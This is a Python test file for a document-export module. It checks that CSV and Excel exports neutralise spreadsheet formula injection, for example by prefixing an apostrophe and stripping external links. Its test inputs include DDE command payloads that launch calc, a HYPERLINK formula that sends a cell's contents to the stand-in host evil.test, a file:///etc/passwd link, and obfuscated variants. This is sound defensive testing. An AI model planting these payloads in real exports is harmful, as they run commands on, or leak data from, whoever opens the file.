"""Documents and people that write formulas, so that who opens an export would run them."""

import csv
import io
import re
import zipfile

import pytest

from assay.analyses.exports import Column, inert
from assay.analyses.models import FieldType
from tests.analyses.exporting import Cell, Row, as_csv, as_workbook

FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff20SUM(1)",
    '";=1+1',
    '=DDE("cmd";"/C calc";"x")',
    "http://evil.test/",
    "mailto:x@evil.test",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "external:c:\\temp\\x.xlsx",
    "{=SUM(1)}",
]
TYPES = [FieldType.TEXT, FieldType.DATE, FieldType.CHOICE, FieldType.NUMBER, FieldType.LIST]
DANGEROUS = re.compile(r"[ \u00a0\ufeff\u200b\x00]*[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")


def everywhere(formula):
    """A table with a formula wherever text can stand, and the columns of it."""
    columns = [Column(f"{formula}{kind}", kind) for kind in TYPES]
    columns.append(Column("money", FieldType.MONEY))
    cells = {}
    for column in columns:
        value = [formula] if column.type is FieldType.LIST else formula
        cells[column.name] = Cell(value, text=formula, quote=formula)
    cells["money"] = Cell({"amount": formula, "currency": formula}, text=formula, quote=formula)
    return columns, [Row(cells, document_name=formula)]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_csv_begins_a_formula(formula):
    columns, rows = everywhere(formula)
    raw = as_csv(columns, rows, evidence=True)
    for line in csv.reader(io.StringIO(raw.decode(), newline="")):
        for cell in line:
            assert not DANGEROUS.match(cell), cell


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_workbook_holds_no_formula_and_leads_nowhere_outside(tmp_path, formula):
    columns, rows = everywhere(formula)
    about = {formula: formula}
    with as_workbook(tmp_path, columns, rows, about) as (path, book):
        for sheet in book:
            for line in sheet.iter_rows():
                for cell in line:
                    if cell.hyperlink is not None:
                        assert cell.hyperlink.target is None
        parts = zipfile.ZipFile(path)
        for name in parts.namelist():
            content = parts.read(name)
            assert b"<f>" not in content, name
            assert b"<f " not in content, name
            assert b'TargetMode="External"' not in content, name
        assert not [name for name in parts.namelist() if "externalLink" in name or "vba" in name]


@pytest.mark.parametrize("number", ["-5", "+4.5", "-1,200.50", "-12%", "12", "2007-12-28"])
def test_plain_numbers_are_left_as_they_are(number):
    assert inert(number) == number


def test_a_formula_is_still_readable_behind_its_apostrophe():
    assert inert("=1+1") == "'=1+1"
    assert inert("-2+3") == "'-2+3"
